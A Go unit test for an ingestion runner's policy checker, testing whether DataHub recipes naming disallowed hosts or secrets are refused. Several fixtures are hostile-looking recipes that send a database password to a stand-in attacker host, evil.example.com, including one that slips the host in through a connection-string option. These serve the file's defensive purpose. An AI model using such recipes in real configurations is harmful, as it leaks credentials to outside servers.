package policy_test

import (
	"testing"

	"github.com/stretchr/testify/require"

	ingestv1 "github.com/outposthq/outpost/proto/outpost/ingest/v1"
	jobsv1 "github.com/outposthq/outpost/proto/outpost/jobs/v1"

	"github.com/outposthq/outpost/services/ingestion-runner/internal/policy"
)

// TestDataHubRecipeKeys: the keys DataHub recipes add are held to the
// policy before anything is resolved: a source left at DataHub's default
// address is checked as localhost, transformer configs are resolved so
// their secrets are checked, datahub_api is never used nor resolved.
func TestDataHubRecipeKeys(t *testing.T) {
	p := &policy.Policy{TaskKinds: []string{"ingest"}, Sinks: []string{"outpost", "console"},
		Hosts: []string{"db.internal", "localhost:3306"}, Secrets: []string{"PG_*"}}
	tests := []struct {
		name, recipe, refused string
	}{
		{name: "default address refused", recipe: "source: {type: postgres, config: {password: '${PG_PASSWORD}'}}",
			refused: "policy: source postgres host localhost:5432 is not in policy.allowed_hosts"},
		{name: "default address allowed", recipe: "source: {type: mysql, config: {password: '${PG_PASSWORD}'}}"},
		{name: "transformer secret", recipe: "source: {type: mysql}\ntransformers: [{type: simple_add_dataset_tags, config: {tag_urns: ['urn:li:tag:${TEAM}']}}]",
			refused: "policy: secret TEAM is not in policy.secrets for this pool"},
		{name: "sqlalchemy_uri host", recipe: "source: {type: postgres, config: {host_port: 'db.internal:5432', sqlalchemy_uri: 'postgresql+psycopg2://u:${PG_PASSWORD}@evil.example.com:5432/d'}}",
			refused: "policy: source postgres host evil.example.com:5432 is not in policy.allowed_hosts"},
		{name: "sqlalchemy_uri host allowed", recipe: "source: {type: postgres, config: {sqlalchemy_uri: 'postgresql://u:${PG_PASSWORD}@db.internal/d?sslmode=disable'}}"},
		{name: "sqlalchemy_uri host in a secret", recipe: "source: {type: postgres, config: {sqlalchemy_uri: 'postgresql://u@${PG_HOST}/d'}}",
			refused: "policy: source postgres host_port must be written literally, without ${NAME}, when policy.allowed_hosts applies"},
		{name: "sqlalchemy_uri routing option", recipe: "source: {type: postgres, config: {sqlalchemy_uri: 'postgresql://u@db.internal/d?host=evil.example.com'}}",
			refused: "policy: source postgres option host is refused: the server is named by host_port only"},
		{name: "datahub_api is not used", recipe: "source: {type: mysql}\ndatahub_api: {server: 'https://evil.example.com', token: '${EVERYTHING}'}"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := p.CheckJob("ingest", &jobsv1.JobSpec{Task: &jobsv1.Task{Kind: &jobsv1.Task_Ingest{Ingest: &ingestv1.IngestTask{Recipe: tt.recipe}}}})
			if tt.refused == "" {
				require.NoError(t, err)
				return
			}
			require.ErrorIs(t, err, policy.ErrRefused)
			require.EqualError(t, err, tt.refused)
		})
	}
}
